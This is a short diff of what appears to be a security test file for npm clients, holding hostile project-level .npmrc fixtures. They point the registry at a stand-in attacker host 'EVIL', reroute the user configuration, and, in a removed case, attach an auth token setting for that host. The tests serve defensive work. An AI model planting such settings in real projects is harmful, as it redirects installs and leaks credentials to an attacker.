@@ -54,7 +54,6 @@ needsNpmClients('a hostile project', () => {
 
     test.each([
       ['a registry that nobody enabled', { '.npmrc': 'registry=http:EVIL/\n' }],
-      ['our file’s path', { '.npmrc': 'registry=http:EVIL/\nEVIL/:_authToken=${npm_config_userconfig}\n' }],
       ['a user’s configuration of its own', { '.npmrc': 'registry=http:EVIL/\nuserconfig=./mine\n' }],
       [
         'settings of ours in the project',
